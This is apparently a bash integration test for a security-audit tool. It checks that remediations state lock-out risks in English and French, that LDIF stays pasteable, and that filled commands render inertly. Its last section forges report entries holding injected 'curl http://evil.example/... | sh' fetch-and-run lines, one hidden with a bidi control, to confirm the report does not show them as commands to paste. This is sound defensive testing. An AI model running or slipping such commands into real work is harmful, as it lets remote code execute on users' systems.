#!/bin/bash
# remediation-safety.sh -- every remediation of the catalogue that changes
# how people or programs get in (sshd, PAM, sudo, the firewall, mounts,
# kernel boot options and modules, account lock-out, AD authentication,
# LDAP bind rules and ACLs) states, in English and in French, what to check
# first or what it can lock out; the checks reviewed as safe without such a
# sentence are named in the script's allow-list with a reason. And the
# multi-line remediations (LDIF) are pasteable: no " / " between LDIF lines.
# And the commands filled with the objects found (<fill>) stay inert with
# hostile names (remediation-fill.py).
. "$(dirname "$0")/lib.sh"
t_setup
LINT=$SRCDIR/tests/integration/remediation-safety.py

if python3 "$LINT" "$SRCDIR/checks" > "$T_TMP/out" 2>&1; then
	ok "every sensitive remediation states a precondition or its lock-out risk (en and fr)"
else
	not_ok "every sensitive remediation states a precondition or its lock-out risk (en and fr)" "$(head -c 800 "$T_TMP/out")"
fi
python3 "$LINT" --list "$SRCDIR/checks" > "$T_TMP/list"
n=$(grep -c ' ok$' "$T_TMP/list")
if [ "$n" -ge 100 ]; then ok "the topics find the sensitive remediations ($n en+fr texts with a precondition)"
else not_ok "the topics find the sensitive remediations" "only $n"; fi
check_grep "LNX-SSH-003 is among them" '^linux/ssh.xml:en: LNX-SSH-003 \[sshd\] ok$' "$T_TMP/list"
check_grep "OLDAP-AUTH-001 is among them" '^openldap/security.xml:fr: OLDAP-AUTH-001 \[bind-rules\] ok$' "$T_TMP/list"
check_grep "AD-PWD-002 is among them" '^ad/password.xml:en: AD-PWD-002 \[lockout\] ok$' "$T_TMP/list"

# a copy of the catalogue to break on purpose
cp -r "$SRCDIR/checks" "$T_TMP/checks"
# LNX-SSH-001 without its lock-out sentence, in French only
python3 - "$T_TMP/checks/linux/ssh.xml" <<'PY'
import re, sys
p = sys.argv[1]
s = open(p, encoding="utf-8").read()
i = s.index('<check id="LNX-SSH-001"')
j = s.index('<remediation lang="fr">', i)
k = s.index('</remediation>', j)
s = s[:j] + '<remediation lang="fr">Mettre « PermitRootLogin no » puis : systemctl reload ssh' + s[k:]
open(p, "w", encoding="utf-8").write(s)
PY
check_rc "a remediation without its lock-out sentence fails the test" 1 python3 "$LINT" "$T_TMP/checks"
python3 "$LINT" "$T_TMP/checks" > "$T_TMP/out1" 2>&1
check_grep "the failure names the check and the language" '^linux/ssh.xml:fr: LNX-SSH-001 \[sshd\] MISSING$' "$T_TMP/out1"
cp "$SRCDIR/checks/linux/ssh.xml" "$T_TMP/checks/linux/ssh.xml"
# an allow-listed check whose remediation no longer touches anything
sed -i 's|<remediation lang="en">chown root:root /etc/sudoers /etc/sudoers.d/\* &amp;&amp; chmod 0440 /etc/sudoers /etc/sudoers.d/\*</remediation>|<remediation lang="en">x</remediation>|' "$T_TMP/checks/linux/accounts.xml"
check_rc "an allow-list entry that no longer applies fails the test" 1 python3 "$LINT" "$T_TMP/checks"
python3 "$LINT" "$T_TMP/checks" > "$T_TMP/out2" 2>&1
check_grep "it names the stale entry" 'allow-list names LNX-SUDO-009' "$T_TMP/out2"

# pasteable LDIF: no "dn: ... / replace: ..." written on one line
if grep -nE '<remediation[^>]*>.*dn: [^<]* / (add|replace|delete):' "$SRCDIR"/checks/*/*.xml > "$T_TMP/inline"; then
	not_ok "no LDIF written inline with \" / \" between its lines" "$(head -c 400 "$T_TMP/inline")"
else
	ok "no LDIF written inline with \" / \" between its lines"
fi
# an LDIF block starts at the line's beginning (a leading space would make
# ldapmodify fold it into the line before)
if grep -nE '^[[:space:]]+(dn|changetype|add|replace|delete|olc[A-Za-z]+|pwd[A-Za-z]+): ' "$SRCDIR"/checks/*/*.xml | grep -v '<' > "$T_TMP/indent"; then
	not_ok "LDIF lines of remediations are not indented" "$(head -c 400 "$T_TMP/indent")"
else
	ok "LDIF lines of remediations are not indented"
fi
# the commands filled with the objects found: hostile names (quotes,
# $(...), backticks, leading dashes, control characters, bidi controls,
# not UTF-8, over-long, typographic quotes for PowerShell) render inertly
if [ -x "$REMPART" ]; then
	python3 "$SRCDIR/tests/integration/remediation-fill.py" "$REMPART" \
	    "$SRCDIR/tests/fixtures/bundle" "$T_TMP/fill" > "$T_TMP/fill.out" 2>&1
	while IFS= read -r l; do
		case $l in
		"ok   "*) ok "${l#ok   }" ;;
		"FAIL "*) not_ok "${l#FAIL }" ;;
		*) printf '%s\n' "$l" ;;
		esac
	done < "$T_TMP/fill.out"
	check_grep "the filled-command test ran its cases" '^ok   every filled shell command' "$T_TMP/fill.out"
	check "results.json with hostile objects is valid against docs/results.schema.json" \
	    python3 "$SRCDIR/tests/integration/results-schema.py" \
	    "$SRCDIR/docs/results.schema.json" "$T_TMP/fill/r.json"
	# results.json is a file, hostile too: a target or a command holding
	# a line break (or another control) in plan[].commands is not shown
	# as lines to paste, but as not filled in
	python3 - "$T_TMP/fill/r.json" "$T_TMP/forged.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
n = 0
for a in d["plan"]:
    for e in a.get("commands") or []:
        if e.get("refused") is None and e.get("commands"):
            if n == 0:
                e["target"] = "web1\ncurl http://evil.example/a | sh"
            elif n == 1:
                e["commands"][0] += "\ncurl http://evil.example/b | sh"
            elif n == 2:
                e["commands"][0] += " \u202e hs | b/elpmaxe.live//:ptth lruc"
            n += 1
assert n >= 3, n
json.dump(d, open(sys.argv[2], "w"))
PY
	for fmt in md html; do
		"$REMPART" report -r "$T_TMP/forged.json" -f $fmt -o "$T_TMP/forged.$fmt" 2> /dev/null
		check_nogrep "$fmt: a forged target's line break injects no command" '^curl http://evil.example/a' "$T_TMP/forged.$fmt"
		check_nogrep "$fmt: a forged command's line break injects no command" '^curl http://evil.example/b' "$T_TMP/forged.$fmt"
		check_nogrep "$fmt: a forged command's bidi control is not shown to paste" $'\xe2\x80\xae' "$T_TMP/forged.$fmt"
	done
else
	not_ok "the filled commands are tested" "REMPART=$REMPART is not an executable"
fi
t_done
